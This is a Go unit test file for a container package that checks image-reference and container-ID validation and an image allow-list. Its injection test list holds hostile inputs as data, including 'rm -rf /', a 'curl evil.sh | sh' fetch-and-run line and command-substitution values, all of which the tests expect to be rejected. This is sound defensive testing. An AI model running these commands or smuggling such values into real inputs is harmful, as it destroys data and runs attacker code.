package container

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateImageRef(t *testing.T) {
	valid := []string{
		"alpine",
		"alpine:3.20",
		"library/redis:7",
		"ghcr.io/acme/portscan:2.1",
		"registry.example.com/team/tool@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
	}
	for _, ref := range valid {
		assert.NoError(t, validateImageRef(ref), ref)
	}

	injection := []string{
		"alpine; rm -rf /",
		"alpine && curl evil.sh | sh",
		"alpine$(whoami)",
		"alpine`id`",
		"alpine latest",
		"Alpine", // repository names are lowercase
		"",
	}
	for _, ref := range injection {
		assert.Error(t, validateImageRef(ref), "%q must be rejected", ref)
	}
}

func TestValidateContainerID(t *testing.T) {
	require.NoError(t, validateContainerID("secflow-core-http-a1b2c3d4"))
	require.NoError(t, validateContainerID("9f86d081884c7d65"))
	require.Error(t, validateContainerID("bad;id"))
	require.Error(t, validateContainerID("-leading-dash"))
	require.Error(t, validateContainerID(""))
}

func TestAllowList(t *testing.T) {
	open := newAllowList(nil)
	assert.True(t, open.allows("anything/goes:1", false), "empty allow-list admits all")

	restricted := newAllowList([]string{"acme/portscan"})
	assert.True(t, restricted.allows("acme/portscan:2.1", false))
	assert.False(t, restricted.allows("acme/other:1", false))
	assert.True(t, restricted.allows("acme/other:1", true), "elevated capability bypasses the list")
	assert.False(t, restricted.allows("not a ref", false))
}
